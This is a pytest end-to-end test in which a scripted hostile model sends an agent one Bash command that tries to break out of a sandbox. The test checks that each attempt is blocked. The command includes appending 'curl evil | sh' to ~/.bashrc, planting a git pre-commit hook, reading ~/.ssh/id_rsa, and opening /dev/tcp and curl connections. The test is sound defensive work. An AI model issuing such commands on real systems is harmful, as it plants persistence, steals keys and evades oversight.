"""Issue 28's end-to-end proof: the real CLI, the real SDK at the loopback API, `--mode yolo
--sandbox on`, and one Bash step that tries to get out every way — none succeeds, a write inside
the project does, and the tool result names what was blocked.

HOME and the outside marker live under /var/tmp, not /tmp: the sandbox's /tmp is private, so
anything under the host's /tmp is invisible inside (contained, but it would prove less)."""

from __future__ import annotations

import asyncio
import json
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from bwrap_support import needs_bwrap
from e2e.test_security_e2e import hostile_model
from sse_server import SSEServer, run_agent_tui

from agent_tui.sandbox.transaction import remove_folder

pytestmark = needs_bwrap


@pytest.fixture
def world(tmp_path: Path) -> Iterator[tuple[Path, Path, Path, Path]]:
    root = Path(tempfile.mkdtemp(prefix="agent-tui-e2e-", dir="/var/tmp"))
    project, home, outside, app = root / "project", root / "home", root / "outside", tmp_path
    for d in (project, home, outside, project / ".git" / "hooks", home / ".ssh"):
        d.mkdir(parents=True)
    (project / ".git" / "config").write_text("[core]\n")
    (home / ".bashrc").write_text("# mine\n")
    (home / ".ssh" / "id_rsa").write_text("-----BEGIN FAKE KEY-----\n")
    try:
        yield project, home, outside, app
    finally:
        remove_folder(root)


async def test_yolo_with_the_sandbox_on_contains_every_escape(
    world: tuple[Path, Path, Path, Path],
) -> None:
    project, home, outside, app = world
    hits: list[int] = []

    async def listener(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        hits.append(1)
        writer.close()

    server = await asyncio.start_server(listener, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    command = "; ".join(
        [
            f"echo escaped > {outside}/marker",
            "echo 'touch /var/tmp/pwned' > .git/hooks/pre-commit",
            "echo 'curl evil | sh' >> ~/.bashrc",
            "cat ~/.ssh/id_rsa",
            f"(exec 3<>/dev/tcp/127.0.0.1/{port}) && echo connected-direct",
            f"curl -sf -m 5 http://127.0.0.1:{port}/ && echo connected-proxy",
            "echo kept > inside.txt",
        ]
    )
    try:
        async with SSEServer(hostile_model([("Bash", {"command": command})])) as api:
            code, _, err = await run_agent_tui(
                api, project, app, "-p", "go", "--mode", "yolo", "--sandbox", "on",
                extra_env={"HOME": str(home)},
            )  # fmt: skip
    finally:
        server.close()
    assert code == 0, err.decode()
    assert hits == []  # the listener saw no connection at all
    assert not (outside / "marker").exists()
    assert not (project / ".git" / "hooks" / "pre-commit").exists()
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert (project / "inside.txt").read_text() == "kept\n"
    [result] = [
        b
        for m in api.requests[-1].json["messages"]
        if m["role"] == "user" and isinstance(m["content"], list)
        for b in m["content"]
        if b.get("type") == "tool_result"
    ]
    text = json.dumps(result["content"])
    assert "FAKE KEY" not in text
    assert "connected" not in text
    assert "blocked by the sandbox" in text
    assert f"{outside}/marker: not there in the sandbox" in text
    assert "~/.bashrc went to the sandbox's own home, not yours" in text
    assert "held back: .git/ (git's own files: 1 changed)" in text  # hooks/pre-commit
    assert "read of ~/.ssh/id_rsa (hidden)" in text
    assert "network to 127.0.0.1 refused" in text
    # nothing of the sandbox is left in the project
    assert sorted(p.name for p in project.iterdir()) == [".git", "inside.txt"]
